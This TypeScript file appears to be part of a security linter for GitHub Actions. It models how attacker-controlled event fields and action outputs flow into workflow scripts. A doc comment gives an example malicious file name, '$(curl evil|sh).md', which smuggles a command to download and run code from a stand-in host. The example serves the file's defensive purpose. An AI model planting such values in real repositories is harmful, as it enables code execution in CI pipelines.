import {
  analyseExpression,
  type ContextPath,
  type EmbeddedExpression,
  type ExpressionFacts,
  findExpressions,
  pathMatches,
} from "../../formats/expressions.js";
import { scalarText } from "../../formats/yaml.js";
import { actionName, type Job, type Step, type Workflow } from "./model.js";

/**
 * Which values an outsider controls, and where they flow. Sources are event
 * fields anyone can write (titles, bodies, branch names, commit messages and
 * author names); they flow through `env:` at every level, through step
 * outputs set from them, through `$GITHUB_ENV`, and through job outputs into
 * `needs.*`. Numbers, SHAs and ids are never sources.
 */

/** Event fields an outsider sets (after actionlint's and zizmor's lists). */
export const ATTACKER_CONTROLLED: readonly string[] = [
  "github.head_ref",
  "github.event.issue.title",
  "github.event.issue.body",
  "github.event.pull_request.title",
  "github.event.pull_request.body",
  "github.event.pull_request.head.ref",
  "github.event.pull_request.head.label",
  "github.event.pull_request.head.repo.default_branch",
  "github.event.pull_request.head.repo.description",
  "github.event.comment.body",
  "github.event.review.body",
  "github.event.review_comment.body",
  "github.event.discussion.title",
  "github.event.discussion.body",
  "github.event.pages.*.page_name",
  "github.event.commits.*.message",
  "github.event.commits.*.author.email",
  "github.event.commits.*.author.name",
  "github.event.commits.*.committer.email",
  "github.event.commits.*.committer.name",
  "github.event.head_commit.message",
  "github.event.head_commit.author.email",
  "github.event.head_commit.author.name",
  "github.event.head_commit.committer.email",
  "github.event.head_commit.committer.name",
  "github.event.workflow_run.head_branch",
  "github.event.workflow_run.display_title",
  "github.event.workflow_run.head_commit.message",
  "github.event.workflow_run.head_commit.author.email",
  "github.event.workflow_run.head_commit.author.name",
  "github.event.workflow_run.head_repository.description",
  "github.event.workflow_run.pull_requests.*.head.ref",
];

const INPUT_PATTERNS = ["inputs.*", "github.event.inputs.*", "github.event.client_payload.*"];

const attackerPatterns = ATTACKER_CONTROLLED.map((p) => p.split("."));
const inputPatterns = INPUT_PATTERNS.map((p) => p.split("."));

/**
 * Actions whose outputs carry text from the pull request itself: changed file
 * names and branch names are chosen by whoever opens it (a file may be named
 * `$(curl evil|sh).md`).
 */
export const TAINTED_ACTION_OUTPUTS: ReadonlyMap<string, string> = new Map([
  ["tj-actions/changed-files", "file names in the pull request"],
  ["tj-actions/branch-names", "the pull request's branch name"],
  ["jitterbit/get-changed-files", "file names in the pull request"],
  ["dorny/paths-filter", "file names in the pull request"],
]);

/** A tainted value and the chain it came through, e.g. `env.TITLE` ← `github.event.issue.title`. */
export interface TaintSource {
  /** The attacker-controlled origin: a dotted context path, or a description when `described`. */
  origin: string;
  /** `origin` is prose (an action's outputs), not a context path. */
  described?: boolean;
  /** Intermediate names, outermost first (`env.TITLE`, `steps.meta.outputs.title`). */
  via: string[];
}

export interface TaintedExpression {
  expression: EmbeddedExpression;
  facts: ExpressionFacts;
  sources: TaintSource[];
}

export interface TaintOptions {
  /** `actions.untrusted-inputs`: treat `inputs.*` as attacker-controlled. */
  untrustedInputs: boolean;
}

const MAX_DEPTH = 8;
const MAX_VIA = 3;

export function describeSource(source: TaintSource): string {
  const chain = [
    ...source.via.map((s) => `\`${s}\``),
    source.described ? source.origin : `\`${source.origin}\``,
  ];
  return chain.length === 1 ? chain[0]! : `${chain[0]} (from ${chain.slice(1).join(" ← ")})`;
}

export class TaintModel {
  private readonly stepOutputs = new Map<
    Job,
    Map<string, { index: number; outputs: Map<string, TaintSource> }>
  >();
  private readonly envCache = new Map<string, Map<string, TaintSource>>();
  private readonly stepEnvWrites = new Map<Job, Array<Map<string, TaintSource>>>();
  private readonly jobOutputs = new Map<string, Map<string, TaintSource> | "computing">();

  constructor(
    readonly wf: Workflow,
    readonly options: TaintOptions,
  ) {}

  /** Is this path, on its own, an attacker-controlled value (or an object containing one)? */
  originOf(path: ContextPath): string | undefined {
    for (const pattern of attackerPatterns) {
      if (pathMatches(path, pattern, true)) return path.join(".");
    }
    if (this.options.untrustedInputs) {
      for (const pattern of inputPatterns) if (pathMatches(path, pattern, true)) return path.join(".");
    }
    return undefined;
  }

  /** Every `${{ }}` in `text` whose value can carry attacker text, evaluated inside `job`/`step`. */
  taintedExpressions(text: string, job?: Job, step?: Step): TaintedExpression[] {
    const out: TaintedExpression[] = [];
    for (const expression of findExpressions(text)) {
      const facts = analyseExpression(expression.body);
      const sources = facts.values.flatMap((p) => this.sourcesOf(p, job, step, 0));
      if (sources.length > 0) out.push({ expression, facts, sources });
    }
    return out;
  }

  /** Tainted shell variables (`$TITLE`, `${TITLE}`) referenced in a script line. */
  taintedShellVars(line: string, job?: Job, step?: Step): Array<{ name: string; source: TaintSource }> {
    const env = this.envInScope(job, step, true);
    const out: Array<{ name: string; source: TaintSource }> = [];
    for (const m of line.matchAll(/\$(?:\{([A-Za-z_][A-Za-z0-9_]*)[}:#%/]|([A-Za-z_][A-Za-z0-9_]*))/g)) {
      const name = m[1] ?? m[2]!;
      const source = env.get(name);
      if (source) out.push({ name, source });
    }
    return out;
  }

  private sourcesOf(
    path: ContextPath,
    job: Job | undefined,
    step: Step | undefined,
    depth: number,
  ): TaintSource[] {
    if (depth > MAX_DEPTH) return [];
    const origin = this.originOf(path);
    if (origin) return [{ origin, via: [] }];
    const [root, second, third, fourth] = path;
    if (root === "env") {
      const env = this.envInScope(job, step, true, depth);
      if (second === undefined || second === "*") return [...env.values()].map((s) => via(s, "env"));
      const hit = [...env.entries()].find(([k]) => k.toLowerCase() === second);
      return hit ? [via(hit[1], `env.${hit[0]}`)] : [];
    }
    if (root === "steps" && job && second !== undefined && (third === undefined || third === "outputs")) {
      const found: TaintSource[] = [];
      for (const [id, tainted] of this.outputsOfSteps(job, step, second)) {
        for (const [name, source] of tainted) {
          if (fourth === undefined || fourth === "*" || name === "*" || name === fourth) {
            found.push(via(source, `steps.${id}.outputs.${fourth ?? name}`));
          }
        }
      }
      return found;
    }
    if (root === "needs" && second !== undefined && (third === undefined || third === "outputs")) {
      const jobs = second === "*" ? this.wf.jobs : this.wf.jobs.filter((j) => j.id.toLowerCase() === second);
      const found: TaintSource[] = [];
      for (const j of jobs) {
        const outputs = this.outputsOfJob(j, depth + 1);
        for (const [name, source] of outputs) {
          if (fourth === undefined || fourth === "*" || name === fourth) {
            found.push(via(source, `needs.${j.id}.outputs.${name}`));
          }
        }
      }
      return found;
    }
    return [];
  }

  /**
   * Tainted environment variables visible in a step: workflow, job and step
   * `env:` (innermost wins), plus variables earlier steps wrote to `$GITHUB_ENV`
   * when `withWrites` (they join both the shell's environment and `env.*`).
   */
  private envInScope(job: Job | undefined, step: Step | undefined, withWrites: boolean, depth = 0) {
    const key = `${job ? this.wf.jobs.indexOf(job) : -1}/${step?.index ?? -1}/${withWrites}`;
    const cached = this.envCache.get(key);
    if (cached) return cached;
    const out = new Map<string, TaintSource>();
    this.envCache.set(key, out);
    const layer = (entries: Workflow["env"], evalJob: Job | undefined, evalStep: Step | undefined) => {
      for (const e of entries) {
        const text = scalarText(e.value);
        if (text === undefined) {
          out.delete(e.key);
          continue;
        }
        const sources = this.exprSources(text, evalJob, evalStep, depth + 1);
        if (sources.length > 0) out.set(e.key, sources[0]!);
        else out.delete(e.key);
      }
    };
    layer(this.wf.env, undefined, undefined);
    if (job) {
      layer(job.env, undefined, undefined);
      if (withWrites && step) {
        const writes = this.envWrites(job);
        for (let i = 0; i < step.index; i++) for (const [k, v] of writes[i] ?? []) out.set(k, v);
      }
      if (step) layer(step.env, job, undefined);
    }
    return out;
  }

  private exprSources(
    text: string,
    job: Job | undefined,
    step: Step | undefined,
    depth: number,
  ): TaintSource[] {
    if (depth > MAX_DEPTH || !text.includes("${{")) return [];
    return findExpressions(text).flatMap((e) =>
      analyseExpression(e.body).values.flatMap((p) => this.sourcesOf(p, job, step, depth)),
    );
  }

  /** Outputs of the steps before `before` in a job that carry attacker text, by step id. */
  private outputsOfSteps(
    job: Job,
    before: Step | undefined,
    id: string,
  ): Map<string, Map<string, TaintSource>> {
    let all = this.stepOutputs.get(job);
    if (!all) {
      all = new Map();
      this.stepOutputs.set(job, all);
      for (const step of job.steps) {
        if (!step.id) continue;
        const outputs = this.outputsWrittenBy(job, step);
        if (outputs.size > 0) all.set(step.id.toLowerCase(), { index: step.index, outputs });
      }
    }
    const out = new Map<string, Map<string, TaintSource>>();
    const visible = (e: { index: number }) => !before || e.index < before.index;
    if (id === "*") {
      for (const [k, e] of all) if (visible(e)) out.set(k, e.outputs);
    } else {
      const e = all.get(id);
      if (e && visible(e)) out.set(id, e.outputs);
    }
    return out;
  }

  private outputsWrittenBy(job: Job, step: Step): Map<string, TaintSource> {
    const out = new Map<string, TaintSource>();
    const script = scalarText(step.run);
    if (script !== undefined) {
      for (const [name, source] of this.fileWrites(script, "GITHUB_OUTPUT", job, step)) out.set(name, source);
    }
    // actions/github-script: core.setOutput('name', <value from the event payload or a tainted expression>).
    const uses = scalarText(step.uses)?.toLowerCase() ?? "";
    const described = TAINTED_ACTION_OUTPUTS.get(actionName(uses));
    if (described) out.set("*", { origin: `${described} (${actionName(uses)})`, via: [], described: true });
    const code = step.with.find((e) => e.key === "script");
    const codeText = scalarText(code?.value);
    if (uses.startsWith("actions/github-script@") && codeText) {
      for (const m of codeText.matchAll(/setOutput\(\s*['"`]([\w-]+)['"`]\s*,([^\n;]*)/g)) {
        const value = m[2]!;
        const payload = /context\.payload\.[\w.]*(title|body|head\.ref|head_ref|message|label)\b/.exec(value);
        const expr = this.exprSources(value, job, step, 1)[0];
        if (payload) out.set(m[1]!.toLowerCase(), { origin: `github.event${payload[0].slice(15)}`, via: [] });
        else if (expr) out.set(m[1]!.toLowerCase(), expr);
      }
    }
    return out;
  }

  /** Variables each step of a job writes to `$GITHUB_ENV` from attacker text, by step index. */
  private envWrites(job: Job): Array<Map<string, TaintSource>> {
    let writes = this.stepEnvWrites.get(job);
    if (!writes) {
      writes = [];
      this.stepEnvWrites.set(job, writes);
      for (const step of job.steps) {
        const script = scalarText(step.run);
        writes[step.index] = script ? this.fileWrites(script, "GITHUB_ENV", job, step, false) : new Map();
      }
    }
    return writes;
  }

  /**
   * Names a script writes to `$GITHUB_OUTPUT` / `$GITHUB_ENV` with tainted
   * values: `name=value` lines and `name<<EOF` heredocs. A tainted write whose
   * name cannot be read taints every name (`*`).
   */
  private fileWrites(
    script: string,
    file: "GITHUB_OUTPUT" | "GITHUB_ENV",
    job: Job,
    step: Step,
    shellVars = true,
  ): Map<string, TaintSource> {
    const out = new Map<string, TaintSource>();
    if (!script.includes(file)) return out;
    const lines = script.split("\n");
    const taintOf = (line: string): TaintSource | undefined =>
      this.exprSources(line, job, step, 1)[0] ??
      (shellVars ? this.taintedShellVars(line, job, step)[0]?.source : undefined);
    let anyTainted: TaintSource | undefined;
    for (const line of lines) {
      const t = taintOf(line);
      anyTainted ??= t;
      if (!line.includes(file) || !t) continue;
      const names = [...line.matchAll(/(?:^|["'\s])([A-Za-z_][\w-]*)(?:=|<<)/g)].map((m) => m[1]!);
      for (const n of names.length ? names : ["*"])
        out.set(file === "GITHUB_OUTPUT" ? n.toLowerCase() : n, t);
    }
    if (anyTainted && /<</.test(script)) {
      for (const m of script.matchAll(/(?:^|["'\s])([A-Za-z_][\w-]*)<<[\w'"-]+/gm)) {
        const n = m[1]!;
        out.set(file === "GITHUB_OUTPUT" ? n.toLowerCase() : n, anyTainted);
      }
    }
    return out;
  }

  private outputsOfJob(job: Job, depth: number): Map<string, TaintSource> {
    const cached = this.jobOutputs.get(job.id);
    if (cached === "computing") return new Map();
    if (cached) return cached;
    this.jobOutputs.set(job.id, "computing");
    const out = new Map<string, TaintSource>();
    for (const e of job.outputs) {
      const text = scalarText(e.value);
      const sources = text ? this.exprSources(text, job, undefined, depth + 1) : [];
      if (sources.length > 0) out.set(e.key.toLowerCase(), sources[0]!);
    }
    this.jobOutputs.set(job.id, out);
    return out;
  }
}

function via(source: TaintSource, name: string): TaintSource {
  // Messages name the nearest hops only; a long chain (step after step) stays O(1) in memory.
  return { ...source, via: [name, ...source.via].slice(0, MAX_VIA) };
}
